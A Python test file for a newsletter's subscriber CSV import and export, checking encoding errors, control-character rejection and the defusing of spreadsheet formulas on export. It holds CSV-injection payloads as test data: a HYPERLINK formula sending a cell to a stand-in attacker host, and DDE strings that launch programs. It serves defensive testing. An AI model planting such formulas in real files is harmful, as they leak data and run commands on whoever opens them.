"""Subscriber files that are not UTF-8 are named as such; exports are safe in a spreadsheet and
still import back; what no database stores alike is refused by row."""

from __future__ import annotations

import csv
import io

import pytest

from newsletter.errors import InvalidInput
from newsletter.subscribers.csvfile import (
    Row,
    RowError,
    export_header,
    export_row,
    neutralise,
    read_csv,
    restore,
)
from newsletter.subscribers.models import SubscriberStatus

TEXT = "email,name\nann@example.org,Ann\n"


def read(data: bytes) -> list[Row | RowError]:
    return list(read_csv(io.BytesIO(data)))


@pytest.mark.parametrize(
    ("encoding", "named"),
    [
        ("utf-16", "UTF-16"),  # with a byte-order mark, as Excel's "Unicode text"
        ("utf-16-le", "UTF-16"),
        ("utf-16-be", "UTF-16"),
        ("utf-32", "UTF-32"),
    ],
)
def test_a_utf16_or_utf32_file_is_named_as_such(encoding: str, named: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        read(TEXT.encode(encoding))

    assert str(caught.value) == f"line 1: the file is {named}; save it as UTF-8"


def test_a_latin1_header_refuses_the_file_naming_the_likely_encoding() -> None:
    with pytest.raises(InvalidInput) as caught:
        read("email,prénom\nann@example.org,Anne\n".encode("latin-1"))

    assert str(caught.value) == (
        "line 1: the file is not UTF-8 (Latin-1 or Windows-1252?); save it as UTF-8"
    )


def test_a_latin1_row_in_a_utf8_file_names_the_likely_encoding() -> None:
    (row,) = read(b"email,name\njose@example.org,Jos\xe9\n")

    assert row == RowError(
        2, "the line is not UTF-8 (Latin-1 or Windows-1252?); save the file as UTF-8"
    )


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "\tindented",
    "\rreturned",
]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_is_exported_behind_an_apostrophe(cell: str) -> None:
    exported = export_row("ann@example.org", cell, "active", "confirmed", {"note": cell})

    assert exported[1] == "'" + cell
    assert all(c[:1] not in "=+-@\t\r" for c in exported)


@pytest.mark.parametrize(
    "cell", [*DANGEROUS, "'=already quoted", "''", "'", "O'Brien", "'plain", "", "Ann"]
)
def test_restore_undoes_neutralise(cell: str) -> None:
    assert restore(neutralise(cell)) == cell


def test_ordinary_cells_are_exported_as_they_are() -> None:
    assert export_row("ann@example.org", "O'Brien", "active", "confirmed", {}) == [
        "ann@example.org",
        "O'Brien",
        "active",
        "confirmed",
        "",
    ]


def test_an_export_with_formulas_imports_back_to_the_same_subscribers() -> None:
    # A name holds no tab or line break (check_name), an attribute may.
    names = [cell for cell in DANGEROUS if cell[:1] not in "\t\r"]
    rows = [
        export_row(f"-{n}@example.org", name, "active", "confirmed", {"n": cell})
        for n, (name, cell) in enumerate(zip(names * 2, DANGEROUS, strict=False))
    ]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([export_header(), *rows])

    read_back = read(buffer.getvalue().encode())

    assert [(r.email, r.name, r.attributes) for r in read_back if isinstance(r, Row)] == [
        (f"-{n}@example.org", name, {"n": cell})
        for n, (name, cell) in enumerate(zip(names * 2, DANGEROUS, strict=False))
    ]
    assert all(isinstance(r, Row) and r.status is SubscriberStatus.ACTIVE for r in read_back)


@pytest.mark.parametrize(
    ("line", "error"),
    [
        ("a@example.org,Ann,Alm\x00aty,", "the city column holds a control character (U+0000)"),
        ("a@example.org,Ann,\x1b[2J,", "the city column holds a control character (U+001B)"),
        ('a@example.org,Ann,,"{""k"": ""\\u0000""}"', "holds a control character (U+0000)"),
        ('a@example.org,Ann,,"{""\\u0007"": 1}"', "holds a control character (U+0007)"),
        ('a@example.org,Ann,,"{""k"": ""\\ud800""}"', "not valid Unicode"),
        ('a@example.org,Ann,,"{""k"": NaN}"', "NaN is not a number JSON may hold"),
        ('a@example.org,Ann,,"{""k"": 1e999}"', "1e999 is too large"),
        (f'a@example.org,Ann,,"{{""k"": {"9" * 5000}}}"', "not JSON we can store"),
        (f'a@example.org,Ann,,"{{""k"": {"[" * 100_000}}}"', "attributes column"),
    ],
)
def test_an_attribute_no_database_stores_alike_is_a_row_error(line: str, error: str) -> None:
    data = f"email,name,city,attributes\n{line}\nb@example.org,Bob,Bishkek,\n".encode()

    first, second = read(data)

    assert isinstance(first, RowError)
    assert error in first.error
    assert isinstance(second, Row)


def test_a_tab_or_a_line_break_in_an_attribute_is_kept() -> None:
    (row,) = read(b'email,note\na@example.org,"two\n\tlines"\n')

    assert isinstance(row, Row)
    assert row.attributes == {"note": "two\n\tlines"}


def test_a_control_character_in_the_header_refuses_the_file() -> None:
    with pytest.raises(InvalidInput, match="column 2 of the header"):
        read(b"email,ci\x01ty\na@example.org,Almaty\n")
